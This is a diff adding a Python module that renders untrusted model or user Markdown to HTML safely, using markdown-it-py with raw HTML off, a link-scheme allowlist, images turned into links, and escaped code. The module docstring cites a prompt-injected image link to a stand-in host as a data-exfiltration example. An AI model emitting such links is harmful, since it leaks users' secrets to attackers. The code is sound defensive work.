@@ -1,0 +1,123 @@
+"""Markdown from a model or a person, rendered to HTML that is safe to put in a page.
+
+Model and user text are untrusted (SECURITY.md). markdown-it-py's own security notes say the
+safe strategy is raw HTML off plus a strict link check, so:
+
+- ``js-default`` preset (raw HTML off: ``<script>`` comes out as text), with the html rules
+  disabled by name as well, tables and strikethrough on, single newlines kept as ``<br>``
+  (chat text is written line by line);
+- links only to ``http:``, ``https:`` and ``mailto:``; anything else (``javascript:``,
+  ``vbscript:``, ``data:``, ``file:``, relative paths that would point at this server) is not
+  a link at all and stays visible as text. Links open in a new tab with
+  ``rel="noopener noreferrer"``;
+- images are never loaded (prompt-injected ``![](https://evil/?q=secret)`` would leak data the
+  moment it rendered): an image becomes a link the reader may choose to follow;
+- fenced code gets a ``language-xxx`` class only when the info string's first word is a plain
+  language name, and a copy button; the code itself is escaped;
+- table column alignment becomes a class, because the strict CSP refuses ``style`` attributes.
+
+:func:`render_markdown` returns :class:`markupsafe.Markup`; it is the one producer of markup
+from untrusted text, so templates never need ``|safe``.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Sequence
+
+from markdown_it import MarkdownIt
+from markdown_it.common.utils import escapeHtml
+from markdown_it.renderer import RendererHTML
+from markdown_it.rules_core import StateCore
+from markdown_it.token import Token
+from markdown_it.utils import EnvType, OptionsDict
+from markupsafe import Markup
+
+SAFE_LINK = re.compile(r"^(?:https?|mailto):", re.IGNORECASE)
+# A language name as people write it after ``` (python, c++, c#, objective-c, vb.net).
+LANGUAGE_NAME = re.compile(r"^[A-Za-z0-9][A-Za-z0-9_+#.-]{0,31}$")
+TABLE_ALIGN = re.compile(r"^text-align:(left|center|right)$")
+
+COPY_BUTTON = ('<button type="button" class="copy-button" data-copy-code '
+               'aria-label="Copy code">Copy</button>')
+
+
+def is_safe_link(url: str) -> bool:
+    """markdown-it passes the URL normalized and with entities decoded (so ``&#74;`` is J)."""
+    return bool(SAFE_LINK.match(url.strip()))
+
+
+def code_language(info: str) -> str:
+    """The fence's language if it is a plain name, else "" (no class at all)."""
+    first_word = info.strip().split(maxsplit=1)[0] if info.strip() else ""
+    return first_word.lower() if LANGUAGE_NAME.match(first_word) else ""
+
+
+def _render_code(content: str, language: str) -> str:
+    label = escapeHtml(language) if language else "text"
+    code_class = f' class="language-{escapeHtml(language)}"' if language else ""
+    return (f'<div class="code-block"><div class="code-block__bar">'
+            f'<span class="code-block__language">{label}</span>{COPY_BUTTON}</div>'
+            f"<pre><code{code_class}>{escapeHtml(content)}</code></pre></div>\n")
+
+
+class SafeRenderer(RendererHTML):
+    """markdown-it's HTML renderer with our rules for code, links, images and tables."""
+
+    def fence(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
+              env: EnvType) -> str:
+        token = tokens[idx]
+        return _render_code(token.content, code_language(token.info))
+
+    def code_block(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
+                   env: EnvType) -> str:
+        return _render_code(tokens[idx].content, "")
+
+    def link_open(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
+                  env: EnvType) -> str:
+        token = tokens[idx]
+        token.attrSet("target", "_blank")
+        token.attrSet("rel", "noopener noreferrer")
+        return self.renderToken(tokens, idx, options, env)
+
+    def image(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
+              env: EnvType) -> str:
+        token = tokens[idx]
+        src = token.attrGet("src") or ""
+        alt = self.renderInlineAsText(token.children or [], options, env) or "image"
+        return (f'<a class="image-link" href="{escapeHtml(str(src))}" target="_blank" '
+                f'rel="noopener noreferrer">Image: {escapeHtml(alt)}</a>')
+
+    def table_open(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
+                   env: EnvType) -> str:
+        # A wide table scrolls inside its own box, never the page.
+        return '<div class="table-scroll">' + self.renderToken(tokens, idx, options, env)
+
+    def table_close(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
+                    env: EnvType) -> str:
+        return self.renderToken(tokens, idx, options, env) + "</div>\n"
+
+
+def _alignment_as_class(state: StateCore) -> None:
+    """Turn markdown-it's ``style="text-align:…"`` on table cells into ``class="align-…"``."""
+    for token in state.tokens:
+        if token.type in ("th_open", "td_open") and "style" in token.attrs:
+            match = TABLE_ALIGN.match(str(token.attrs.pop("style")))
+            if match:
+                token.attrSet("class", f"align-{match.group(1)}")
+
+
+def _build_parser() -> MarkdownIt:
+    md = MarkdownIt("js-default", {"breaks": True}, renderer_cls=SafeRenderer)
+    md.disable(["html_block", "html_inline"])  # already off in js-default: a second wall
+    md.validateLink = is_safe_link  # type: ignore[method-assign]
+    md.core.ruler.push("alignment_as_class", _alignment_as_class)
+    return md
+
+
+_PARSER = _build_parser()
+
+
+def render_markdown(text: str) -> Markup:
+    """Safe HTML for ``text``; call it on the whole message so far, never on a fragment."""
+    return Markup(_PARSER.render(text))
